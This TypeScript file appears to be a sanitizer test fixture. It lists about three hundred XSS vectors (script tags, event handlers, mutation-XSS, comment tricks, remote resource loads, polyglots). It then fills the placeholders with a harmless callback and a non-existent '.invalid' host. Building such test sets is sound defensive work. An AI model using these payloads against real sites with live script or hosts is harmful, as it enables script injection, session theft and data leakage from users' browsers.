/**
 * HTML that runs or loads something if it reaches a page unchanged, one vector per line. `RUN` is the script,
 * `HOST` another host; ␀ ␉ ␊ ␌ ␍ stand for control characters, ‵ and ＄ for the characters that would end a
 * template literal.
 *
 * The classes are those of public collections (PortSwigger, OWASP, html5sec, tests of sanitizers); the lines
 * are our own.
 */
const table: Record<string, string> = {
  scripts: `
    <script>RUN</script>
    <SCRIPT >RUN</ScRiPt >
    <script/x>RUN</script/x>
    <script␊>RUN</script␊>
    <script>RUN//
    <script>RUN<!--
    <script src=//HOST/a.js></script>
    <script src="data:text/javascript,RUN"></script>
    <script type=module>import('//HOST/a.js')</script>
    <script type=module src=//HOST/a.js></script>
    <script>/*</script*/RUN</script>
    <scr<script>ipt>RUN</scr</script>ipt>
    <<script>RUN</script>
    <script x="</script>">RUN</script>
    <script␀>RUN</script>
    <␀script>RUN</script>
    <svg><script>RUN</script></svg>
    <svg><script href="data:text/javascript,RUN" /></svg>
    <svg><script xlink:href="data:text/javascript,RUN"></script></svg>
    <svg><script>RUN&lt;/script></svg>
    <math><script>RUN</script></math>
    <script>/**/</script><script>RUN</script>
    </p><script>RUN</script><p>
    <script language=vbscript>RUN</script>
    <script for=window event=onload>RUN</script>
    <noscript></noscript><script>RUN</script>`,
  handlers: `
    <img src=x onerror=RUN>
    <img src=x onerror="RUN">
    <img src=x onerror='RUN'//>
    <img/src=x/onerror=RUN>
    <img␉src=x␊onerror␌=␍RUN>
    <img src onerror=RUN>
    <image src=x onerror=RUN>
    <img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=RUN>
    <svg onload=RUN>
    <svg/onload=RUN>
    <svg><svg onload=RUN></svg></svg>
    <svg><animate onbegin=RUN attributeName=x dur=1s>
    <svg><set onbegin=RUN attributeName=x to=1>
    <svg><image href=x onerror=RUN>
    <svg><a onclick=RUN><text y=9>a</text></a></svg>
    <svg><style onload=RUN></style></svg>
    <math><mtext onclick=RUN>a</mtext></math>
    <body onload=RUN>
    <body onpageshow=RUN>
    <html onclick=RUN>
    <iframe onload=RUN></iframe>
    <iframe srcdoc="<img src=x onerror=RUN>"></iframe>
    <iframe srcdoc="&lt;script>RUN&lt;/script>"></iframe>
    <object data=x onerror=RUN></object>
    <object onload=RUN data=data:text/html,a></object>
    <embed src=x onload=RUN>
    <video src=x onerror=RUN></video>
    <video><source src=x onerror=RUN></video>
    <audio src=x onerror=RUN></audio>
    <audio src onloadstart=RUN>
    <video poster=x onloadstart=RUN src=y></video>
    <input autofocus onfocus=RUN>
    <input type=image src=x onerror=RUN>
    <select autofocus onfocus=RUN></select>
    <textarea autofocus onfocus=RUN></textarea>
    <button autofocus onfocus=RUN>a</button>
    <p tabindex=0 autofocus onfocus=RUN>a</p>
    <strong contenteditable autofocus onfocus=RUN>a</strong>
    <a href=https://a.ba/ autofocus onfocus=RUN>a</a>
    <a href="https://a.ba/" autofocus onfocus="RUN" x="">a</a>
    <details open ontoggle=RUN><summary>a</summary></details>
    <dialog open onclose=RUN>a</dialog>
    <marquee onstart=RUN>a</marquee>
    <link rel=stylesheet href=data:text/css, onload=RUN>
    <link rel=stylesheet href=x onerror=RUN>
    <style onload=RUN></style>
    <style onload=RUN>@import 'data:text/css,';</style>
    <script src=x onerror=RUN></script>
    <p style="animation:x 1s" onanimationstart=RUN>a</p>
    <style>@keyframes x{}</style><p style=animation-name:x onanimationstart=RUN>a</p>
    <p style="transition:1s" ontransitionend=RUN>a</p>
    <p hidden=until-found onbeforematch=RUN>a</p>
    <p style=content-visibility:auto oncontentvisibilityautostatechange=RUN>a</p>
    <p style="overflow:auto;height:9px" onscroll=RUN onscrollend=RUN>a<br>b<br>c</p>
    <button popovertarget=x>a</button><p popover id=x onbeforetoggle=RUN>b</p>
    <xss onpointerrawupdate=RUN>a</xss>
    <custom-element onclick=RUN tabindex=1>a</custom-element>
    <form onsubmit=RUN><input type=submit autofocus></form>
    <form><button formaction=javascript:RUN>a</button></form>
    <isindex type=image src=x onerror=RUN>
    <frameset onload=RUN><frame src=x></frameset>
    <track onerror=RUN src=x default>
    <keygen autofocus onfocus=RUN>
    <bgsound src=x onpropertychange=RUN>
    <p onclick=RUN//a>a</p>
    <p/"onclick=RUN>a</p>
    <p x="a"onclick=RUN>a</p>
    <p """onclick=RUN>a</p>
    <p =onclick=RUN>a</p>
    <p x=y'onclick=RUN>a</p>
    <li data-type="taskItem" data-checked='true" onclick="RUN'>a</li>
    <ul data-type='taskList" onclick="RUN'><li>a</li></ul>
    <ol start='1" onclick="RUN'><li>a</li></ol>`,
  mutations: `
    <svg></p><style><a id="</style><img src=x onerror=RUN>">
    <svg><p><style><a title="</style><img src=x onerror=RUN>">
    <svg><style><img src=x onerror=RUN></style></svg>
    <svg><title><style><!--</style><img src=x onerror=RUN>--></title></svg>
    <svg><desc><table><svg><style><a title="</style><img src=x onerror=RUN>"></style></svg></table></desc></svg>
    <svg><foreignObject><math><mi><style><!--</style><img src=x onerror=RUN>--></style></mi></math></foreignObject></svg>
    <svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>"></style></foreignobject></annotation-xml></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
    <math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=RUN">
    <math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext></math>
    <math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
    <math><mi><style><a title="</style><img src=x onerror=RUN>"></style></mi></math>
    <math><mtext><option><style><a title="</style><img src=x onerror=RUN>"></style></option></mtext></math>
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
    <form id=x></form><math><mtext><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
    <form><div></form><svg><form><style></form><img src=x onerror=RUN></style></svg></div></form>
    <table><svg><p><style><a title="</style><img src=x onerror=RUN>">
    <table><tr><svg><td><style><a title="</style><img src=x onerror=RUN>"></td></svg></tr></table>
    <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">
    <select><svg><style><img src=x onerror=RUN></style></svg></select>
    <select><iframe><select><img src=x onerror=RUN></select></iframe></select>
    <option><style></option></select><b><img src=x onerror=RUN></style></option>
    <noscript><p title="</noscript><img src=x onerror=RUN>">
    <noscript><style></noscript><img src=x onerror=RUN></style>
    <noscript><!--</noscript><img src=x onerror=RUN>--></noscript>
    <p id="<noscript><p title='</noscript><img src=x onerror=RUN>'>">a</p>
    <template><noscript><p title="</noscript><img src=x onerror=RUN>"></template>
    <template shadowrootmode=open><img src=x onerror=RUN></template>
    <p><template shadowrootmode=open><style>@import '//HOST/a.css'</style><slot></slot></template>a</p>
    <template><s><template><s><img src=x onerror=RUN></s></template></s></template>
    <textarea><p title="</textarea><img src=x onerror=RUN>">
    <title><a title="</title><img src=x onerror=RUN>"></title>
    <xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
    <noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
    <noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
    <iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
    <listing>&lt;img src=x onerror=RUN&gt;</listing>
    <plaintext></plaintext><img src=x onerror=RUN>
    <b><style><style/><img src=x onerror=RUN>
    <style><style///><img src=x onerror=RUN></style>
    <img alt="&lt;x&gt;&#96;&#96;onerror=RUN" src=x>
    <p title="‵‵onmouseover=RUN">a</p>
    <a href="https://a.ba/?&quot;onmouseover=RUN//">a</a>
    <a href='https://a.ba/"onmouseover=RUN//'>a</a>
    <a href="https://a.ba/#<img src=x onerror=RUN>">a</a>
    <a href="https://a.ba/␊onclick=RUN">a</a>
    <a href=https://a.ba/␌onclick=RUN>a</a>
    <a href="https://a.ba"x="><img src=x onerror=RUN>">a</a>
    <p class="</p><img src=x onerror=RUN>
    <svg><![CDATA[><image xlink:href="]]><img src=x onerror=RUN>"></svg>
    <math><![CDATA[<img src=x onerror=RUN>]]></math>
    <svg><!--&gt;<img src=x onerror=RUN>--></svg>
    <a><svg><a><p><style><a title="</style><img src=x onerror=RUN>"></a>
    <em><p><strong></em><script>RUN</script></strong></p>
    <h1><h2><table><h3><a><b></h1><img src=x onerror=RUN>
    <table><a href=javascript:RUN>a<td>b</a>c</table>
    <frameset><noframes><img src=x onerror=RUN></noframes></frameset>
    <isindex prompt="<img src=x onerror=RUN>">
    <ruby><rp><style></ruby><img src=x onerror=RUN></style></rp></ruby>`,
  comments: `
    <!--><img src=x onerror=RUN>-->
    <!---><img src=x onerror=RUN>-->
    <!-- --!><img src=x onerror=RUN>-->
    <!--<!--><img src=x onerror=RUN>--><!---->
    <!-- -- ><img src=x onerror=RUN>-->
    <!-␀-><img src=x onerror=RUN>-->
    <!x><img src=x onerror=RUN>
    <!x a="><img src=x onerror=RUN>">
    <!doctype a "><img src=x onerror=RUN>">
    <?x ><img src=x onerror=RUN>?>
    <?php echo '<img src=x onerror=RUN>' ?>
    <% a %><img src=x onerror=RUN>
    </ a="><img src=x onerror=RUN>">
    </␀><img src=x onerror=RUN>
    <!--[if gte IE 4]><script>RUN</script><![endif]-->
    <![if a]><script>RUN</script><![endif]>
    <![CDATA[<img src=x onerror=RUN>]]>
    <![CDATA[]]><script>RUN</script>
    <!ENTITY x "<img src=x onerror=RUN>">&x;
    <comment><img src="</comment><img src=x onerror=RUN>">`,
  loads: String.raw`
    <img src=//HOST/a>
    <img srcset="//HOST/a 1x">
    <img src=data:, srcset=//HOST/a,x>
    <img lowsrc=//HOST/a dynsrc=//HOST/a longdesc=//HOST/a>
    <picture><source srcset=//HOST/a><img></picture>
    <video poster=//HOST/a src=//HOST/b><track default src=//HOST/c></video>
    <audio autoplay src=//HOST/a></audio>
    <input type=image src=//HOST/a>
    <link rel=stylesheet href=//HOST/a.css>
    <link rel=preload as=image href=//HOST/a>
    <link rel="prefetch prerender" href=//HOST/a>
    <link rel=modulepreload href=//HOST/a.js>
    <link rel="dns-prefetch preconnect" href=//HOST>
    <link rel="icon manifest" href=//HOST/a>
    <body background=//HOST/a>
    <table background=//HOST/a><td background=//HOST/b>a</table>
    <iframe src=//HOST/a></iframe>
    <frameset><frame src=//HOST/a></frameset>
    <object data=//HOST/a></object>
    <embed src=//HOST/a>
    <applet code=//HOST/a></applet>
    <portal src=//HOST/a></portal>
    <fencedframe src=//HOST/a></fencedframe>
    <meta http-equiv=refresh content="0;url=//HOST/a">
    <meta http-equiv=refresh content="0;url=javascript:RUN">
    <meta http-equiv=Set-Cookie content="a=b">
    <meta http-equiv=Content-Security-Policy content="default-src *">
    <base href=//HOST/><img src=a><a href=b>c</a>
    <a href=https://a.ba/ ping=//HOST/a>a</a>
    <a href=https://a.ba/ attributionsrc=//HOST/a download=b>a</a>
    <form action=//HOST/a><input name=b autofocus><button>c</button></form>
    <svg><image href=//HOST/a /></svg>
    <svg><use href=//HOST/a.svg#b /></svg>
    <svg><feImage href=//HOST/a /></svg>
    <svg><rect fill="url(//HOST/a#b)" filter="url(//HOST/c#d)"/></svg>
    <svg><style>@import '//HOST/a';</style></svg>
    <style>@import '//HOST/a.css';p{background:url(//HOST/b)}</style>
    <style>@font-face{font-family:x;src:url(//HOST/a)}p{font-family:x}</style>
    <p style="background:url(//HOST/a)">a</p>
    <p style="background:url(&#47;/HOST/a)">a</p>
    <p style="background-image:image-set('//HOST/a' 1x)">a</p>
    <p style="list-style:url(//HOST/a);cursor:url(//HOST/b),auto">a</p>
    <p style="b\61ckground:u\72l(//HOST/a)">a</p>
    <p style="width:expression(RUN)">a</p>
    <p style="behavior:url(//HOST/a.htc);-moz-binding:url(//HOST/b.xml#c)">a</p>
    <p style="position:fixed;inset:0;z-index:9999">a</p>
    <xml src=//HOST/a id=b></xml>
    <img src="//HOST/?a=
    <a href="https://a.ba/" style="background:url(//HOST/a)">a</a>
    <blockquote cite=//HOST/a><ins cite=//HOST/b>a</ins></blockquote>`,
  polyglots: String.raw`
    jaVasCript:/*-/*‵/*‵/*'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=RUN//>
    '">><marquee><img src=x onerror=RUN></marquee></plaintext\></|\><plaintext/onmouseover=RUN>
    "'--></style></script></title></textarea></noscript></template></xmp><img src=x onerror=RUN>
    '';!--"<XSS>=&{RUN}<img src=x onerror=RUN>
    ]]></script></svg></math><svg/onload=RUN>
    +ADw-script+AD4-RUN+ADw-/script+AD4-
    \u003cimg src=x onerror=RUN\u003e
    %3Cimg%20src=x%20onerror=RUN%3E
    ＜img src=x onerror=RUN＞
    ¼script¾RUN¼/script¾
    {{constructor.constructor('RUN')()}}
    ＄{RUN}<%= RUN %>#{RUN}
    <x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
    <x is=y xmlns="http://www.w3.org/1999/xhtml" onclick=RUN>a</x>
    <html xmlns:xss><?import namespace=xss implementation=//HOST/a.htc><xss:xss>a</xss:xss></html>`,
};

const pictures: Record<string, string> = {
  '␀': '\0',
  '␉': '\t',
  '␊': '\n',
  '␌': '\f',
  '␍': '\r',
  '‵': '`',
  '＄': '$',
};

/** Reports to the enclosing page that it ran. */
export const run = 'top.hit()';
/** A host that does not exist (RFC 6761). */
export const otherHost = 'zlo.invalid';

/** The lines of the table with the placeholders replaced. */
export const vectors: readonly string[] = Object.values(table).flatMap(lines =>
  lines
    .trim()
    .split('\n')
    .map(line =>
      line
        .trim()
        .replaceAll('RUN', run)
        .replaceAll('HOST', otherHost)
        .replace(/[␀␉␊␌␍‵＄]/g, picture => pictures[picture] ?? ''),
    ),
);
